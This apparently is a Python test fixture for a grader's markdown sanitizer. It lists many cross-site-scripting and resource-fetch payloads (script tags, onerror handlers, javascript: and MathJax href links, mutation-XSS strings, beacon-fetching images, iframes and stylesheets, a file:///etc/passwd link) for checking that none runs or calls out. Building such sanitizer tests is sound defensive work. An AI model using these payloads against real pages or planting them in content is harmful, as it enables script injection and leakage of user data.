"""What a student may write to make a page of the grader run, fetch or disguise something; BEACON is an address.

One markdown source each. Nothing of it may run in a browser, none may fetch the beacon.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>PWNED()</script>",
    "<SCRIPT SRC=BEACON></SCRIPT>",
    "<scr<script>ipt>PWNED()</scr</script>ipt>",
    "text\n\n<script>\nPWNED()\n</script>\n\ntext",
    '<script type="module">import("BEACON")</script>',
    '<script type="math/tex">\\href{javascript:PWNED()}{x}</script>',
    '<noscript><p title="</noscript><img src=x onerror=PWNED()>">',
    "<template><script>PWNED()</script></template>",
    "</div></div></body><script>PWNED()</script>",
    "--><script>PWNED()</script><!--",
    "<!--[if gte IE 4]><script>PWNED()</script><![endif]-->",
    "<![CDATA[<script>PWNED()</script>]]>",
    "{% raw %}<script>PWNED()</script>{% endraw %}{{ PWNED() }}",
]
HANDLERS = [
    '<img src=x onerror="PWNED()">',
    "<img src=x:x onerror=PWNED()>",
    "<img/src=`x`onerror=PWNED()>",
    '<img src="x` `<script>PWNED()</script>"` `>',
    "<body onload=PWNED()>",
    "<svg onload=PWNED()>",
    "<svg><script>PWNED()</script></svg>",
    "<svg><animate onbegin=PWNED() attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:PWNED()"><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=PWNED()></svg>#x\"></svg>",
    '<svg><foreignObject><iframe src="javascript:parent.PWNED()"></iframe></foreignObject></svg>',
    "<details open ontoggle=PWNED()>x</details>",
    "<input autofocus onfocus=PWNED()>",
    "<video><source onerror=PWNED()></video>",
    "<audio src=x onerror=PWNED()>",
    "<marquee onstart=PWNED()>x</marquee>",
    '<p onmouseover="PWNED()" style="position:fixed;inset:0">x</p>',
    "<b id=x tabindex=1 onfocus=PWNED() autofocus>x</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=PWNED()></style></mglyph></table></mtext></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=PWNED() src>">',
    '<a title="</pre><img src=x onerror=PWNED()>">x</a>',
    "`` ` ``<img src=x onerror=PWNED()>`` ` ``",
    "| a |\n|---|\n| <img src=x onerror=PWNED()> |",
    "    <img src=x onerror=PWNED()>\n\n<p>\n\n    <img src=x onerror=PWNED()>",
    "```html\n</code></pre><img src=x onerror=PWNED()>\n```",
    "$a </p><img src=x onerror=PWNED()> b$",
    "$$\n</div>\n\n<img src=x onerror=PWNED()>\n\n$$",
    "\\begin{align}\n<img src=x onerror=PWNED()>\n\\end{align}",
]
LINKS = [
    "[x](javascript:PWNED())",
    "[x](JaVaScRiPt:PWNED())",
    "[x](javascript&#58;PWNED())",
    "[x](javascript&colon;PWNED())",
    "[x](java&#10;script:PWNED())",
    "[x](&#x01;javascript:PWNED())",
    '<a href="java\tscript:PWNED()">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:PWNED())",
    "[x][ref]\n\n[ref]: javascript:PWNED()",
    "<javascript:PWNED()>",
    '<a href="blob:null/x">x</a> <a href="file:///etc/passwd">x</a>',
    '[x](BEACON "onmouseover=PWNED()") [y](http://a" onmouseover="PWNED())',
    "$\\href{javascript:PWNED()}{x}$",
    "$$\\let\\x\\href \\x{javascript:PWNED()}{x}$$",
    "$\\href  {javascript:PWNED()}{\\style{position:fixed;inset:0}{x}}$",
    "\\begin{equation}\\href{javascript:PWNED()}{x}\\end{equation}",
    "$\\require{html}\\style{background:url(BEACON)}{x}$",
    "$\\unicode{x41}\\class{input}{x}\\cssId{score}{y}$",
    '<math><mtext href="javascript:PWNED()">x</mtext></math>',
    "<p>$&#92;href{javascript:PWNED()}{x}$ $&#x5C;href{javascript:PWNED()}{x}$ $&bsol;href{javascript:PWNED()}{x}$</p>",
    "<p>$\\h&#114;ef{javascript:PWNED()}{x}$ &dollar;&#92;h&#x72;ef{javascript:PWNED()}{x}&#36; $&#92href{a}{x}$</p>",
    "<p>$\\hre<!-- -->f{javascript:PWNED()}{x}$ $\\&ZeroWidthSpace;href{javascript:PWNED()}{x}$</p>",
]
FETCHES = [
    "![x](BEACON)",
    '<img src="BEACON">',
    '<img srcset="BEACON 1x">',
    "<iframe src=BEACON></iframe>",
    '<iframe srcdoc="<script>parent.PWNED()</script>"></iframe>',
    "<object data=BEACON></object><embed src=BEACON>",
    "<link rel=stylesheet href=BEACON><link rel=prefetch href=BEACON>",
    "<style>body{background:url(BEACON)} @import 'BEACON';</style>",
    '<div style="background:url(BEACON)">x</div>',
    "<meta http-equiv=refresh content='0;url=BEACON'><base href=BEACON/>",
    "<table background=BEACON><tr><td background=BEACON>x</table>",
    "<video poster=BEACON></video><audio src=BEACON autoplay></audio>",
    '<svg><image href="BEACON"/><feImage href="BEACON"/></svg>',
    "<form action=BEACON><button autofocus>Save the score</button></form><input type=image src=BEACON>",
    "![x](attachment:vector.svg)",
    "![x](attachment:page.html)",
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS, *FETCHES]
ATTACHMENTS = {
    "vector.svg": {"image/svg+xml": "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iUFdORUQoKSIvPg=="},
    "page.html": {"text/html": "PHNjcmlwdD5QV05FRCgpPC9zY3JpcHQ+"},
}
OUTPUTS = [
    {"text/html": "<script>PWNED()</script><img src=BEACON>"},
    {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='PWNED()'/>"},
    {"application/javascript": "PWNED()"},
    {"text/markdown": "<img src=x onerror=PWNED()>"},
    {"text/latex": "$\\href{javascript:PWNED()}{x}$"},
    {"image/png": '" onerror="PWNED()'},
]
"""What a student's code displays, by media type."""
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
HONEST = """\
## My answer

The state is $h_t = \\tanh(W h_{t-1})$, and $a < b$:

$$\\begin{aligned} h_1 &= 1 \\\\ h_2 &= \\frac{1}{2} \\end{aligned}$$

| step | state |
|---|--:|
| 1 | **0.5** |

1. see [the paper](https://arxiv.org/abs/1412.3555 "Chung"), or
2. ![my drawing](attachment:drawing.png)

```python
h = x @ W  # <- here
```
"""
